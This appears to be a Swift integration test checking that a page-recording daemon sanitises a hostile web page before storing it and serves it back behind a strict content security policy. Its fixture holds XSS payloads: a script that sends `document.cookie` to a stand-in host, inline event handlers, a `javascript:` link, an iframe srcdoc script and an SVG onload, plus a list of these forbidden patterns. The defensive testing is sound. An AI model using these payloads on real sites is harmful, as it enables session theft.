import ControlProtocol
import DaemonTestSupport
import Foundation
import JournalStorage
import MuEvalWire
import OrderedCollections
import SessionModel
import XCTest

/// A hostile page recording through the real muevald (issue 55, items 4 and 7): what a device sends with
/// `dom: true` is stored sanitised, its stylesheets once per file, and the console serves the page records again
/// sanitised, with the frame's own policy. The browser side: PageReplayBrowserTests.
final class PageRecordingIntegrationTests: XCTestCase {
    static let start = 1_764_000_000.0
    static let rules = String(repeating: ".note { color: #333; background: url(https://notes.test/bg.png) } ", count: 20)

    private func record(_ eventClass: String, seq: Int64, at t: Double, _ dom: String) -> OrderedDictionary<String, PlistValue> {
        ["class": .string(eventClass), "timestamp": .real(Self.start + t), "seq": .integer(seq), "dom": .string(dom)]
    }

    private func snapshot(_ s: Int, heading: String) -> String {
        #"{"s":\#(s),"n":0,"doctype":"html","viewport":{"w":390,"h":844,"o":"portrait"},"root":{"i":1,"c":[{"i":2,"t":"html","c":["#
            + #"{"i":3,"t":"head","c":[{"i":4,"t":"style","css":"\#(Self.rules)"},{"i":5,"t":"script","c":[{"i":6,"x":"fetch('https://evil.test/?'+document.cookie)"}]}]},"#
            + #"{"i":7,"t":"body","c":[{"i":8,"t":"h1","a":{"onclick":"alert(1)","class":"title"},"c":[{"i":9,"x":"\#(heading)"}]},"#
            + #"{"i":10,"t":"a","a":{"href":"javascript:alert(1)"},"c":[{"i":11,"x":"Open details"}]},"#
            + #"{"i":12,"t":"iframe","a":{"srcdoc":"<script>alert(1)</script>"}},"#
            + #"{"i":13,"t":"img","a":{"src":"data:image/svg+xml,<svg onload=alert(1)>","alt":"logo"}}]}]}]}}"#
    }

    func testAHostilePageIsStoredAndServedSanitisedWithItsStylesheetsOnce() async throws {
        let daemon = try await TestDaemon.start()
        defer { daemon.cleanUp() }
        XCTAssertEqual(try daemon.muevalctl(["start", "--name", "web"]).status, 0)
        let device = try await daemon.connectDevice()
        try await device.hello(DeviceHello(deviceId: "phone-web"))
        try await device.event(record("DOMSnapshot", seq: 1, at: 0, snapshot(1, heading: "Bar app")))
        try await device.event(record("DOMMutations", seq: 2, at: 1,
            #"{"s":1,"n":1,"text":[[9,"Bar app, edited"]],"attr":[[8,"onmouseover","alert(2)"],[10,"href","https://notes.test/d"]],"#
            + #""add":[{"p":7,"b":null,"n":{"i":20,"t":"script","c":[{"i":21,"x":"alert(3)"}]}}]}"#))
        try await device.event(record("DOMScroll", seq: 3, at: 2, #"{"s":1,"n":2,"scroll":[[1,0,1e300]]}"#))
        try await device.event(record("DOMSnapshot", seq: 4, at: 10, snapshot(2, heading: "Details")))
        try await device.event(record("DOMFocus", seq: 5, at: 11, "not json"))
        try await device.waitForAck(5)
        let sessions = try await daemon.ctl.call(ControlRequest.ListSessions())
        let session = try XCTUnwrap(sessions.first)

        // The file: no script, handler or script URL in any payload; the stylesheet once, though sent twice.
        let reader = try SessionReader(path: session.path)
        let stored = try reader.events(classes: ["DOMSnapshot", "DOMMutations", "DOMScroll", "DOMFocus"])
        XCTAssertEqual(stored.count, 5)
        for event in stored {
            for forbidden in ["script", "alert", "onclick", "onmouseover", "javascript:", "srcdoc", "evil.test", "svg+xml"] {
                XCTAssertFalse(event.payload.contains(forbidden), "\(forbidden) stored in \(event.payload)")
            }
        }
        XCTAssertTrue(stored[0].payload.contains("Bar app"), stored[0].payload)
        XCTAssertTrue(stored[4].payload.contains(#""invalid":"#), stored[4].payload)
        let sha = try XCTUnwrap(stored[0].payload.range(of: #"[0-9a-f]{64}"#, options: .regularExpression).map { String(stored[0].payload[$0]) })
        XCTAssertTrue(stored[3].payload.contains(sha), "both snapshots name the same stylesheet")
        XCTAssertEqual(try reader.blob(sha256: sha).map { String(decoding: $0, as: UTF8.self) }, Self.rules)

        // The console: the snapshot in force at a time and what follows it, the stylesheet beside them.
        let link = try await daemon.consoleLink()
        let console = ConsoleClient(link: link.url)
        _ = try await console.login(link.url)
        let early = try await console.request("GET", "/api/sessions/\(session.id)/page?at=\(Self.start + 5)&until=\(Self.start + 5)")
        XCTAssertEqual(early.status, 200, early.text)
        let answer = try XCTUnwrap(try early.json() as? [String: Any])
        let records = try XCTUnwrap(answer["records"] as? [[String: Any]])
        XCTAssertEqual(records.map { $0["class"] as? String }, ["DOMSnapshot", "DOMMutations", "DOMScroll"])
        XCTAssertEqual((answer["assets"] as? [String: String])?[sha], Self.rules)
        XCTAssertEqual(answer["more"] as? Bool, false)
        XCTAssertEqual(answer["remoteAssets"] as? [String], [], "no web origins configured: the frame fetches nothing")
        let scroll = try XCTUnwrap((records[2]["dom"] as? [String: Any])?["scroll"] as? [[Double]])
        XCTAssertEqual(scroll, [[1, 0, 10_000_000]], "1e300 is no scroll position")
        XCTAssertFalse(early.text.contains("alert"), early.text)

        let late = try await console.request("GET", "/api/sessions/\(session.id)/page?at=\(Self.start + 20)")
        let lateRecords = try XCTUnwrap((try late.json() as? [String: Any])?["records"] as? [[String: Any]])
        XCTAssertEqual(lateRecords.map { $0["class"] as? String }, ["DOMSnapshot"], "the second snapshot; the unreadable focus is left out")
        XCTAssertTrue(late.text.contains("Details"), late.text)
        let after = try await console.request("GET", "/api/sessions/\(session.id)/page?after=0&until=\(Self.start + 1.5)")
        XCTAssertEqual(((try after.json() as? [String: Any])?["records"] as? [[String: Any]])?.count, 2)
        for bad in ["at=nan", "at=1e300", "after=-1", "", "at=1&after=2"] {
            let refused = try await console.request("GET", "/api/sessions/\(session.id)/page?\(bad)")
            XCTAssertEqual(refused.status, 400, "\(bad): \(refused.text)")
        }

        // The frame the console builds the page into: no script, nothing fetched but data: images.
        let frame = try await console.request("GET", "/sessions/\(session.id)/page-frame")
        XCTAssertEqual(frame.status, 200)
        let policy = try XCTUnwrap(frame.header("Content-Security-Policy"))
        for directive in ["script-src 'none'", "default-src 'none'", "img-src data:;", "font-src data:;", "frame-ancestors 'self'", "form-action 'none'"] {
            XCTAssertTrue(policy.contains(directive), "\(directive) in \(policy)")
        }
        XCTAssertFalse(policy.contains("http"), policy)
        let anonymous = try await ConsoleClient(link: link.url).request("GET", "/sessions/\(session.id)/page-frame", authenticated: false)
        XCTAssertNotEqual(anonymous.status, 200, "the frame is behind the login")
        await device.close()
    }
}
